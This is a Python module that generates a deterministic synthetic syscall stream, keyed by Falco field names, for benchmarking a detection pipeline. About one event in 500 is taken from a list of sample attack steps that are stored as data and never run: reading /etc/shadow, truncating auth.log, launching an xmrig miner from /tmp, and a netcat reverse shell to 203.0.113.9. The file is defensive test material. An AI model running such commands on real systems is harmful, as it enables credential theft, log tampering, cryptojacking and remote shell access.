"""A realistic generated syscall stream, shared by the benchmarks (bench/engine.py, bench/pipeline.py).

    from syscall_events import generate_events, encode_events
    events = generate_events(100_000, seed=42)      # list of flat dicts
    payloads = encode_events(events)                 # list of JSON bytes, one per event
    payloads = encode_events(iter_events(1_000_000)) # the same without keeping the dicts

Each event is a flat object keyed by Falco field names, spelled as the syscall
field registry (pipeline/fields/syscall.py) reads them and shaped like Falco's
``output_fields``: ``evt.arg.flags``, ``proc.aname[2]``, ``fd.typechar``... Only
the fields an event of that type carries are present (an ``openat`` has
``evt.is_open_read``, a ``read`` does not; a host event has no ``k8s.*``).

The mix is what a busy node's stream looks like after a collector's syscall
filter: mostly file opens and reads, some execve, connect/accept/sendto, a
few chmod, unlink and setuid; about half from containers (with k8s.* fields),
the rest from host daemons and an SSH session. About 1 event in 500 is
one of a few attack steps that Falco's rules flag (a read of /etc/shadow, a
terminal shell in a container, log files truncated, chmod +x in a container, a
binary dropped into a container run, netcat...), so the alert path runs too.

The same ``(n, seed)`` always gives the same events.
"""

from __future__ import annotations

import io
import random
from typing import Any, Iterable, Iterator

import orjson

# (event type, weight)
MIX = [
    ("openat", 30), ("open", 4), ("read", 22), ("close", 10), ("mmap", 3), ("execve", 7), ("connect", 6),
    ("accept", 3), ("sendto", 5), ("chmod", 2), ("fchmodat", 1), ("unlinkat", 2), ("setuid", 1), ("clone", 4),
]
OPEN_TYPES = frozenset({"open", "openat"})
FD_FILE_TYPES = frozenset({"open", "openat", "read", "close", "mmap"})
NET_TYPES = frozenset({"connect", "accept", "sendto"})

# name, exepath, cmdline, parent name, parent exepath, grandparent, great-grandparent
PROCESSES = [
    ("nginx", "/usr/sbin/nginx", "nginx -g daemon off;", "nginx", "/usr/sbin/nginx", "containerd-shim", "systemd"),
    ("python3", "/usr/bin/python3.11", "python3 app.py --port 8000", "gunicorn", "/usr/local/bin/gunicorn", "containerd-shim", "systemd"),
    ("java", "/opt/java/openjdk/bin/java", "java -Xmx512m -jar /app/service.jar", "tini", "/usr/bin/tini", "containerd-shim", "systemd"),
    ("node", "/usr/local/bin/node", "node server.js", "npm", "/usr/local/bin/npm", "containerd-shim", "systemd"),
    ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer", "postgres", "/usr/lib/postgresql/15/bin/postgres", "containerd-shim", "systemd"),
    ("cat", "/usr/bin/cat", "cat /etc/hosts", "bash", "/usr/bin/bash", "sshd", "sshd"),
    ("ls", "/usr/bin/ls", "ls -la /var/log", "bash", "/usr/bin/bash", "sshd", "sshd"),
    ("kubelet", "/usr/bin/kubelet", "kubelet --config=/var/lib/kubelet/config.yaml", "systemd", "/usr/lib/systemd/systemd", "", ""),
    ("containerd", "/usr/bin/containerd", "containerd", "systemd", "/usr/lib/systemd/systemd", "", ""),
]
FILES = [
    "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ssl/certs/ca-certificates.crt", "/etc/localtime",
    "/var/log/app/access.log", "/proc/self/status", "/proc/meminfo", "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/tmp/cache-4f2a.bin", "/app/data/db.sqlite", "/dev/null", "/dev/urandom",
    "/etc/passwd", "/sys/fs/cgroup/memory.max", "/app/static/index.html", "/var/lib/postgresql/data/base/16384/2619",
]
CONTAINERS = [
    ("3f2a9c1b7e4d", "web", "registry.local/shop/web", "1.4.2", "shop", "web-7c9d5f-x2k4p"),
    ("8b1d0e6a2c93", "api", "registry.local/shop/api", "2.0.1", "shop", "api-5b8c7d-q9w2e"),
    ("c47e1f9a0b25", "db", "docker.io/library/postgres", "15.4", "data", "db-0"),
]
SERVERS = [("10.0.3.17", 5432, "tcp"), ("10.0.5.2", 443, "tcp"), ("10.96.0.10", 53, "udp"), ("172.217.3.110", 443, "tcp")]

# Attack steps that Falco's stable and incubating rules flag; each updates a generated event.
SUSPICIOUS: list[dict[str, Any]] = [
    {  # Read sensitive file untrusted
        "evt.type": "openat", "fd.name": "/etc/shadow", "fd.directory": "/etc", "fd.filename": "shadow", "fd.typechar": "f",
        "fd.type": "file", "fd.num": 5, "evt.is_open_read": True, "evt.is_open_write": False, "evt.arg.flags": "O_RDONLY",
        "proc.name": "cat", "proc.exepath": "/usr/bin/cat", "proc.cmdline": "cat /etc/shadow",
    },
    {  # Terminal shell in container
        "evt.type": "execve", "proc.name": "bash", "proc.exe": "/bin/bash", "proc.exepath": "/usr/bin/bash", "proc.cmdline": "bash",
        "proc.args": "", "proc.pname": "runc", "proc.tty": 34816, "container.id": "3f2a9c1b7e4d",
    },
    {  # Clear Log Activities
        "evt.type": "openat", "fd.name": "/var/log/auth.log", "fd.directory": "/var/log", "fd.filename": "auth.log",
        "fd.typechar": "f", "fd.type": "file", "fd.num": 6, "evt.is_open_read": False, "evt.is_open_write": True,
        "evt.arg.flags": "O_WRONLY|O_TRUNC", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh -c > /var/log/auth.log",
    },
    {  # Drop and execute new binary in container
        "evt.type": "execve", "proc.name": "xmrig", "proc.exe": "/tmp/xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o pool:3333",
        "proc.args": "-o pool:3333", "proc.pname": "sh", "proc.is_exe_upper_layer": True, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        "container.id": "8b1d0e6a2c93",
    },
    {  # chmod +x in a container
        "evt.type": "fchmodat", "evt.arg.filename": "/tmp/xmrig", "evt.arg.mode": "0755(S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU)",
        "fd.name": "/tmp/xmrig", "container.id": "8b1d0e6a2c93", "evt.rawres": 0, "evt.res": "SUCCESS",
    },
    {  # Netcat remote code execution / network tool in container
        "evt.type": "execve", "proc.name": "nc", "proc.exe": "nc", "proc.exepath": "/usr/bin/nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444",
        "proc.args": "-e /bin/sh 203.0.113.9 4444", "proc.pname": "sh", "container.id": "3f2a9c1b7e4d",
    },
]


def realistic_event(rng: random.Random, seq: int) -> dict[str, Any]:
    """One syscall event (exit direction, as Falco evaluates), fields as Falco names them."""
    evttype = rng.choices([t for t, _ in MIX], [w for _, w in MIX])[0]
    name, exepath, cmdline, parent, parent_exepath, grandparent, great = rng.choice(PROCESSES)
    host_process = name in ("kubelet", "containerd", "cat", "ls")
    in_container = not host_process and rng.random() < 0.85
    pid = 1000 + seq % 30000
    event: dict[str, Any] = {
        "evt.type": evttype,
        "evt.dir": "<",
        "evt.num": seq,
        "evt.time": 1_714_564_800_000_000_000 + seq * 1000,
        "evt.res": "SUCCESS",
        "evt.rawres": 0,
        "evt.hostname": "node-a",
        "proc.name": name,
        "proc.exe": exepath.rsplit("/", 1)[1] if name != "java" else exepath,
        "proc.exepath": exepath,
        "proc.cmdline": cmdline,
        "proc.args": cmdline.partition(" ")[2],
        "proc.pid": pid,
        "proc.ppid": pid - 7,
        "proc.vpid": 1 if in_container else pid,
        "proc.pname": parent,
        "proc.pexepath": parent_exepath,
        "proc.pcmdline": parent,
        "proc.tty": 0,
        "proc.sid": 1,
        "proc.sname": parent,
        "proc.vpgid": 1,
        "user.name": "root" if name in ("nginx", "kubelet", "containerd", "cat", "ls") else "app",
        "user.uid": 0 if name in ("nginx", "kubelet", "containerd", "cat", "ls") else 1000,
        "user.loginuid": 1000 if name in ("cat", "ls") else -1,
        "group.gid": 0,
    }
    if grandparent:
        event["proc.aname[2]"] = grandparent
    if great:
        event["proc.aname[3]"] = great
    if in_container:
        cid, cname, image, tag, namespace, pod = rng.choice(CONTAINERS)
        event.update(
            {
                "container.id": cid, "container.name": cname, "container.image.repository": image,
                "container.image.tag": tag, "container.privileged": False, "k8s.ns.name": namespace, "k8s.pod.name": pod,
            }
        )
    else:
        event.update({"container.id": "host", "container.name": "host"})
    if evttype in FD_FILE_TYPES:
        path = rng.choice(FILES)
        directory, _, filename = path.rpartition("/")
        event.update(
            {"fd.num": 3 + seq % 60, "fd.type": "file", "fd.typechar": "f", "fd.name": path, "fd.directory": directory or "/", "fd.filename": filename}
        )
        if evttype in OPEN_TYPES:
            write = rng.random() < 0.12
            event.update(
                {
                    "evt.arg.flags": "O_WRONLY|O_CREAT|O_APPEND" if write else "O_RDONLY|O_CLOEXEC",
                    "evt.is_open_read": not write, "evt.is_open_write": write, "evt.is_open_exec": False,
                    "evt.rawres": event["fd.num"],
                }
            )
        elif evttype == "read":
            event.update({"evt.arg.size": 4096, "evt.rawres": 512 + seq % 3584})
    elif evttype in NET_TYPES:
        sip, sport, proto = rng.choice(SERVERS)
        cport = 32768 + seq % 28000
        event.update(
            {
                "fd.num": 7 + seq % 20, "fd.type": "ipv4", "fd.typechar": "4", "fd.sockfamily": "ip", "fd.l4proto": proto,
                "fd.cip": "10.244.1.17", "fd.cport": cport, "fd.sip": sip, "fd.sport": sport,
                "fd.lip": "10.244.1.17", "fd.rip": sip, "fd.lport": cport, "fd.rport": sport,
                "fd.name": f"10.244.1.17:{cport}->{sip}:{sport}",
            }
        )
        if evttype == "connect":
            event["evt.res"], event["evt.rawres"] = ("EINPROGRESS", -115) if rng.random() < 0.3 else ("SUCCESS", 0)
    elif evttype == "execve":
        event.update({"proc.is_exe_upper_layer": False, "proc.is_exe_writable": False, "proc.exe_ino": 131_000 + seq % 500, "evt.arg.flags": "0"})
    elif evttype in ("chmod", "fchmodat"):
        path = rng.choice(FILES[5:12])
        event.update({"evt.arg.filename": path, "evt.arg.mode": "0644(S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR)", "fd.name": path})
    elif evttype == "unlinkat":
        path = "/tmp/cache-" + format(seq % 4096, "x") + ".bin"
        event.update({"evt.arg.name": path, "fd.name": path})
    elif evttype == "setuid":  # a root process dropping privileges (nginx's master to its workers)
        event.update({"evt.arg.uid": "101(nginx)", "user.name": "root", "user.uid": 0})
    elif evttype == "clone":
        event.update({"evt.rawres": 0, "evt.arg.flags": "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD"})
    if seq % 500 == 250:
        event.update(SUSPICIOUS[(seq // 500) % len(SUSPICIOUS)])
        if event["container.id"] != "host" and "k8s.ns.name" not in event:
            event.update({"container.name": "web", "container.image.repository": "registry.local/shop/web", "k8s.ns.name": "shop", "k8s.pod.name": "web-7c9d5f-x2k4p"})
    return event


def iter_events(n: int, seed: int = 42) -> Iterator[dict[str, Any]]:
    """``n`` events of the mix, one at a time (nothing kept: for large runs)."""
    rng = random.Random(seed)
    for seq in range(n):
        yield realistic_event(rng, seq)


def generate_events(n: int, seed: int = 42) -> list[dict[str, Any]]:
    """``n`` events of the mix; the same (n, seed) always gives the same list."""
    return list(iter_events(n, seed))


def encode_events(events: Iterable[dict[str, Any]], chunk: int = 10_000) -> list[bytes]:
    """Each event as JSON bytes. Written to a buffer then split, a chunk at a time: orjson's
    own output buffers are oversized, and keeping 100K of them would inflate the RSS measured."""
    payloads: list[bytes] = []
    buffer = io.BytesIO()
    count = 0
    for event in events:
        buffer.write(orjson.dumps(event))
        buffer.write(b"\n")
        count += 1
        if count == chunk:
            payloads.extend(buffer.getvalue().split(b"\n")[:-1])
            buffer, count = io.BytesIO(), 0
    payloads.extend(buffer.getvalue().split(b"\n")[:-1])
    return payloads


def unbound_keys(events: list[dict[str, Any]]) -> set[str]:
    """Keys of ``events`` that the syscall field registry cannot bind (should be none)."""
    from pipeline.fields import registry_for  # type: ignore[attr-defined]
    from pipeline.fields.registry import UnknownField

    registry = registry_for("syscall")
    keys = {key for event in events for key in event}
    bad = set()
    for key in keys:
        name, _, rest = key.partition("[")
        try:
            registry.bind(name, rest[:-1] if rest else None)
        except UnknownField:
            bad.add(key)
    return bad


__all__ = ["MIX", "encode_events", "generate_events", "iter_events", "realistic_event", "unbound_keys"]
